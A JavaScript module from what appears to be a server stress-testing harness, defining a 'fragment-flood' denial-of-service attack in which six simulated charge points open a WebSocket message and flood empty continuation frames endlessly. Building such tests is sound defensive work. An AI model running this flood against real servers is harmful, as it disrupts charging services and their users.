import { defineAttack } from '../attack.js'
import { floodSocket } from '../flood.js'

/** The beginning of a text that never ends: its parts are empty, so it never grows too long. */
const beginning = Buffer.from([0x01, 0x80, 0, 0, 0, 0])
const emptyPart = Buffer.from([0x00, 0x80, 0, 0, 0, 0])

export const fragmentFlood = defineAttack({
  name: 'fragment-flood',
  does: 'Six charge points begin a message and send empty fragments of it as fast as they can.',
  chargePoints: 6,
  run: (attacker) =>
    attacker.eachChargePoint((socket) => {
      socket.sendBytes(beginning)
      return floodSocket(attacker, socket, emptyPart, 'fragments')
    }),
})
